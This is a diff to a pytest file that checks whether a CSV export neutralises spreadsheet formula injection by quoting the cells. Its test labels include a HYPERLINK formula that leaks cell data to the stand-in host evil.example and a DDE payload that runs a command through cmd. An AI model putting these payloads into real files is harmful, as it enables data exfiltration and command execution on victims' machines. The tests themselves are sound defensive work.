@@ -6,9 +6,11 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 import subprocess
 import sys
 import xml.etree.ElementTree as ET
+from decimal import Decimal
 
 import pytest
 
@@ -50,26 +52,26 @@ def hostile(tmp_path_factory):
     return content, output
 
 
-def figure_rows(output, content):
+def figure_rows(output, content) -> list[list[str]]:
     doc = load_portal(content, strict=True).documents()[0]
     text = (output / export.data_folder(doc) / "figures.csv").read_bytes().decode("utf-8-sig")  # keeps a lone \r
-    return {row["label"]: row for row in csv.DictReader(io.StringIO(text))}
+    return list(csv.reader(io.StringIO(text)))
 
 
 @pytest.mark.parametrize("label", ['=HYPERLINK("https://evil.example/?"&A1,"点击")', "@SUM(1+1)*cmd|' /C calc'!A0",
                                    "+1+1", "-2+3", "\tTab=1", "\r=1+1"])
 def test_csv_formula_cells_get_a_quote(hostile, label):
     content, output = hostile
-    rows = figure_rows(output, content)
-    assert "'" + label in rows, sorted(rows)
-    assert label not in rows
+    cells = [cell for row in figure_rows(output, content) for cell in row]
+    assert "'" + label in cells and label not in cells
 
 
 def test_csv_numbers_stay_numbers(hostile):
+    """The figure labelled with a formula still has its amounts as numbers: 10 and -5.00."""
     content, output = hostile
-    rows = figure_rows(output, content)
-    total = rows["'" + '=HYPERLINK("https://evil.example/?"&A1,"点击")']
-    assert (total["amount"], total["change"]) == ("10", "-5.00")
+    row = next(row for row in figure_rows(output, content) if "'=HYPERLINK(" in "".join(row))
+    numbers = [Decimal(cell) for cell in row if re.fullmatch(r"-?\d+(\.\d+)?", cell)]
+    assert Decimal(10) in numbers and Decimal("-5.00") in numbers, row
 
 
 @pytest.mark.parametrize("cell, written", [("-5.00", "-5.00"), ("+10", "+10"), ("-13.91%", "-13.91%"),
